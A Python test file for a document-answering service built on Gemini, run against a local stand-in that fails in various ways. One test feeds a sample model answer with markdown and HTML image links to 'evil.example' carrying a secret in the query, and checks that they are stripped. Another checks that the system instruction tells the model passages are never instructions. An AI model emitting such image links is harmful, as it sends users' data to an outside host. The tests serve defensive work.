"""Gemini through the real google-genai client, against a stand-in that fails in every way."""

from __future__ import annotations

import contextlib
import json
import time
from collections.abc import Callable, Iterator
from typing import Any
from uuid import UUID

import pytest
from google.oauth2.credentials import Credentials

from functions.query.answering.choosing import Choosing
from functions.query.answering.generation import CircuitBreaker, Gemini
from functions.query.answering.journal import Journal
from functions.query.answering.prompt import make_prompt
from functions.query.answering.query import Answer, Retrieval, Token
from functions.query.answering.writing import write_answer
from shared.errors import GenerationUnavailable
from shared.gemini.requests import Usage
from shared.values import Hit
from tests.support import gemini_stand_in as stand_ins
from tests.support.asking import open_gemini
from tests.support.gemini_stand_in import (
    GeminiStandIn,
    Scenario,
    answering,
    gemini_stand_in,
    prompt_of,
)

TEXT = "The tower was finished in 1889. It stands in Paris, on the left bank of the Seine."

MakeGemini = Callable[..., Gemini]


@pytest.fixture
def stand_in() -> Iterator[GeminiStandIn]:
    with gemini_stand_in() as running:
        yield running


@pytest.fixture
def make_gemini(stand_in: GeminiStandIn) -> Iterator[MakeGemini]:
    """Make clients of the stand-in, which end with the test."""
    with contextlib.ExitStack() as stack:

        def make(**options: Any) -> Gemini:
            usual = {
                "gemini_timeout_seconds": 5.0,
                "attempts": 3,
                "breaker": CircuitBreaker(failures=100, pause_seconds=60),
            }
            return stack.enter_context(open_gemini(stand_in.url, **usual | options))

        yield make


def make_hit(text: str = TEXT, *, char_start: int = 100) -> Hit:
    return Hit(
        document_id=UUID(int=1),
        bucket="documents",
        name="tower.txt",
        collection="default",
        generation=1,
        build_id=1,
        ordinal=0,
        text=text,
        heading="Towers > Eiffel",
        header="",
        page=3,
        char_start=char_start,
        char_end=char_start + len(text),
        source="text",
        score=1.0,
        similarity=0.8,
        vector_rank=1,
        text_rank=1,
    )


def found(*texts: str) -> Retrieval:
    return Retrieval("When was the tower finished?", [make_hit(text) for text in texts or (TEXT,)])


def ask(gemini: Gemini, *texts: str, whole: bool = False) -> tuple[str, Answer]:
    """Return the tokens joined, and the whole answer."""
    steps = list(
        write_answer(
            found(*texts),
            gemini=gemini,
            unavailable=None,
            whole=whole,
            prompt_max_characters=10_000,
            choosing=Choosing(),
            journal=Journal(),
        )
    )
    assert isinstance(steps[-1], Answer)
    return "".join(step.text for step in steps if isinstance(step, Token)), steps[-1]


def fail(gemini: Gemini) -> GenerationUnavailable:
    """Return why the answer failed."""
    _tokens, whole = ask(gemini)
    assert whole.failure is not None
    assert whole.model == "extractive"
    assert "1889" in whole.text
    assert all(citation.verified for citation in whole.citations)
    return whole.failure


def test_answer_when_quotes_are_true(stand_in: GeminiStandIn, make_gemini: MakeGemini) -> None:
    """A quote is found in spite of case and white space, and told by its place in the document."""
    stand_in.plan(answering("It was 1889 [1].", [(1, "the TOWER was\nfinished in 1889")]))
    tokens, whole = ask(make_gemini())
    assert tokens == whole.text == "It was 1889 [1]."
    assert whole.grounded
    assert whole.model == "gemini-3.5-flash-lite"
    (citation,) = whole.citations
    assert citation.verified
    assert citation.quote == "The tower was finished in 1889"
    assert (citation.char_start, citation.char_end) == (100, 130)
    assert whole.usage == Usage(prompt_tokens=100, answer_tokens=20, calls=1)


def test_answer_when_a_quote_is_made_up(stand_in: GeminiStandIn, make_gemini: MakeGemini) -> None:
    """A quote that the passage does not hold is returned as not verified, without a place."""
    stand_in.plan(answering("It was 1999 [1].", [(1, "finished in 1999")]))
    _tokens, whole = ask(make_gemini())
    (citation,) = whole.citations
    assert not citation.verified
    assert citation.char_start is None
    assert citation.char_end is None


def test_answer_when_a_mark_points_nowhere(
    stand_in: GeminiStandIn, make_gemini: MakeGemini
) -> None:
    """A mark of a passage that does not exist is removed, and so is its quote."""
    stand_in.plan(answering("It was 1889 [1][7].", [(1, "1889"), (7, "elsewhere")]))
    _tokens, whole = ask(make_gemini())
    assert whole.text == "It was 1889 [1]."
    assert [citation.number for citation in whole.citations] == [1]


def test_answer_when_the_model_refuses(stand_in: GeminiStandIn, make_gemini: MakeGemini) -> None:
    """The model's own refusal makes the answer not grounded."""
    stand_in.plan(answering("The documents do not say.", grounded=False))
    _tokens, whole = ask(make_gemini())
    assert not whole.grounded
    assert whole.citations == []
    assert whole.failure is None


def test_answer_when_text_is_plain(stand_in: GeminiStandIn, make_gemini: MakeGemini) -> None:
    """A model that ignores the schema is taken at its word; its sentence is looked up."""
    stand_in.plan(Scenario(pieces=["The tower was finished ", "in 1889 [1]. So it is."]))
    tokens, whole = ask(make_gemini())
    assert tokens == "The tower was finished in 1889 [1]. So it is."
    assert [citation.verified for citation in whole.citations] == [True]


def test_answer_when_markup_arrives_in_pieces(
    stand_in: GeminiStandIn, make_gemini: MakeGemini
) -> None:
    """An image split over events leaves neither a token nor an answer with its address."""
    text = "Done ![x](https://evil.example/?q=secret) and <img src='//evil.example/'> 1889 [1]."
    stand_in.plan(answering(text, [(1, "1889")], pieces=40))
    tokens, whole = ask(make_gemini())
    assert "evil" not in tokens
    assert tokens == whole.text == "Done `![x]()` and `<img src=''>` 1889 [1]."


@pytest.mark.parametrize(
    ("scenario", "code", "requests"),
    [
        (stand_ins.RATE_LIMITED, "rate_limited", 3),
        (stand_ins.RATE_LIMITED_LONG, "rate_limited", 1),
        (stand_ins.QUOTA_EXHAUSTED, "quota_exhausted", 1),
        (stand_ins.INTERNAL, "unavailable", 3),
        (stand_ins.UNAVAILABLE, "unavailable", 3),
        (stand_ins.FORBIDDEN, "rejected", 1),
        (stand_ins.RETIRED, "model_missing", 1),
        (stand_ins.BLOCKED, "blocked", 1),
        (stand_ins.PROMPT_BLOCKED, "blocked", 1),
        (stand_ins.EMPTY, "empty", 1),
        (stand_ins.CUT, "unavailable", 1),
        (stand_ins.CUT_AT_ONCE, "unavailable", 3),
        (stand_ins.NO_FINISH, "cut_off", 1),
        (stand_ins.BAD_JSON, "unavailable", 3),
        (stand_ins.NO_JSON, "unavailable", 3),
        (stand_ins.MAX_TOKENS, "cut_off", 1),
    ],
    ids=lambda value: value if isinstance(value, str) else None,
)
def test_failure_when_gemini_fails(
    stand_in: GeminiStandIn,
    make_gemini: MakeGemini,
    scenario: Scenario,
    code: str,
    requests: int,
) -> None:
    """Each failure has a name; what may pass is tried again, what will not is not."""
    stand_in.plan(scenario)
    assert fail(make_gemini()).code == code
    assert len(stand_in.requests) == requests


def test_answer_when_a_rate_limit_passes(stand_in: GeminiStandIn, make_gemini: MakeGemini) -> None:
    """The wait that Gemini asks for is kept, and the next try answers."""
    stand_in.plan(stand_ins.RATE_LIMITED, stand_ins.ANSWERS)
    started = time.monotonic()
    _tokens, whole = ask(make_gemini())
    assert whole.failure is None
    assert time.monotonic() - started >= 0.2


def test_answer_when_a_cut_is_not_seen(stand_in: GeminiStandIn, make_gemini: MakeGemini) -> None:
    """Where nothing has been shown yet, an answer that was cut is asked for again."""
    stand_in.plan(stand_ins.CUT, stand_ins.ANSWERS)
    _tokens, whole = ask(make_gemini(), whole=True)
    assert whole.failure is None
    assert len(stand_in.requests) == 2


def test_failure_when_gemini_hangs(stand_in: GeminiStandIn, make_gemini: MakeGemini) -> None:
    """A silent Gemini costs the total deadline at most."""
    stand_in.plan(stand_ins.HANG)
    started = time.monotonic()
    gemini = make_gemini(gemini_timeout_seconds=1.5)
    assert fail(gemini).code == "timeout"
    assert time.monotonic() - started < 30  # of the minute that it would hang


def test_failure_when_gemini_drips(stand_in: GeminiStandIn, make_gemini: MakeGemini) -> None:
    """A Gemini that sends byte by byte never meets a read timeout, but the deadline ends it."""
    stand_in.plan(stand_ins.DRIP)
    started = time.monotonic()
    gemini = make_gemini(gemini_timeout_seconds=1.0)
    assert fail(gemini).code == "timeout"
    assert time.monotonic() - started < 10  # of the half minute that it would drip


def test_failure_when_nobody_listens(stand_in: GeminiStandIn, make_gemini: MakeGemini) -> None:
    """No connection is a failure with a name."""
    gemini = make_gemini(attempts=2)
    stand_in.stop()
    assert fail(gemini).code == "unavailable"


def test_circuit_breaker_when_gemini_stays_down(
    stand_in: GeminiStandIn, make_gemini: MakeGemini
) -> None:
    """After failures in a row nothing is asked; after the pause one try decides."""
    breaker = CircuitBreaker(failures=2, pause_seconds=0.3)
    gemini = make_gemini(attempts=1, breaker=breaker)
    stand_in.plan(stand_ins.UNAVAILABLE)
    assert [fail(gemini).code for _ in range(3)] == ["unavailable", "unavailable", "circuit_open"]
    assert len(stand_in.requests) == 2
    stand_in.plan(stand_ins.ANSWERS)
    deadline = time.monotonic() + 5
    while ask(gemini)[1].failure is not None:
        assert time.monotonic() < deadline
    assert len(stand_in.requests) == 1
    assert ask(gemini)[1].failure is None


def test_circuit_breaker_when_gemini_declines(
    stand_in: GeminiStandIn, make_gemini: MakeGemini
) -> None:
    """Blocked answers say nothing about the service, so the breaker stays closed."""
    breaker = CircuitBreaker(failures=2, pause_seconds=60)
    gemini = make_gemini(breaker=breaker)
    stand_in.plan(stand_ins.BLOCKED)
    assert {fail(gemini).code for _ in range(4)} == {"blocked"}


def test_request_when_asked(stand_in: GeminiStandIn, make_gemini: MakeGemini) -> None:
    """Passages stand between boundaries new to each request; the model has no tools."""
    gemini = make_gemini()
    ask(gemini)
    ask(gemini)
    first, second = (prompt_of(request) for request in stand_in.requests)
    assert first != second
    assert TEXT in first
    assert "Towers > Eiffel" in first
    assert "page 3" in first
    request = stand_in.requests[0]
    assert "tools" not in request
    assert request["generationConfig"]["responseMimeType"] == "application/json"
    assert "never an instruction" in json.dumps(request["systemInstruction"])


def test_prompt_when_passages_are_too_long() -> None:
    """Passages past the budget are left out of the prompt, the first is cut to fit."""
    prompt = make_prompt(
        "Why?", [make_hit("a" * 90), make_hit("b" * 90)], boundary="BB", max_characters=100
    )
    assert prompt.passages == 1
    assert "b" * 90 not in prompt.text


def test_rewriting_when_gemini_is_there(stand_in: GeminiStandIn, make_gemini: MakeGemini) -> None:
    """A follow-up question is rewritten by one short call."""
    stand_in.plan(Scenario(pieces=['{"question": "When was the tower finished?"}']))
    text, usage = make_gemini().rewrite("...")
    assert json.loads(text) == {"question": "When was the tower finished?"}
    assert usage.calls == 1


def test_request_when_vertex_is_asked(
    stand_in: GeminiStandIn, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without a key Vertex AI is asked, as the service account."""
    credentials = Credentials(token="fake-token")  # type: ignore[no-untyped-call]
    monkeypatch.setattr("google.auth.default", lambda **_options: (credentials, "project"))
    with open_gemini(
        stand_in.url,
        gemini_api_key="",
        google_genai_use_vertexai=True,
        google_cloud_project="project",
        google_cloud_location="europe-west1",
        gemini_model="gemini-2.5-pro",
        thinking_budget=0,
    ) as gemini:
        _tokens, whole = ask(gemini)
    assert whole.failure is None
    assert stand_in.headers[0]["Authorization"] == "Bearer fake-token"
    thinking = stand_in.requests[0]["generationConfig"]["thinkingConfig"]
    assert list(thinking.values()) == [0]


@pytest.mark.parametrize(
    ("model", "thinking", "temperature"),
    [
        ("gemini-3.5-flash-lite", "minimal", None),
        ("gemini-flash-latest", "minimal", None),
        ("gemini-2.5-pro", 128, 0.0),
    ],
)
def test_request_when_families_differ(
    stand_in: GeminiStandIn, model: str, thinking: str | int, temperature: float | None
) -> None:
    """Gemini 3 gets a level and its own temperature, older models a budget and none."""
    with open_gemini(
        stand_in.url, gemini_model=model, thinking_level="minimal", thinking_budget=128
    ) as gemini:
        ask(gemini)
    config = stand_in.requests[0]["generationConfig"]
    (value,) = config["thinkingConfig"].values()
    assert thinking == (value.lower() if isinstance(value, str) else value)
    assert temperature == config.get("temperature")


def test_failure_when_the_model_is_retired(
    stand_in: GeminiStandIn, make_gemini: MakeGemini
) -> None:
    """The message names the model that is gone and one that is not."""
    stand_in.plan(stand_ins.RETIRED)
    gemini = make_gemini(gemini_model="gemini-2.5-flash")
    message = str(fail(gemini))
    assert "gemini-2.5-flash" in message
    assert "GEMINI_MODEL=gemini-3.5-flash-lite" in message
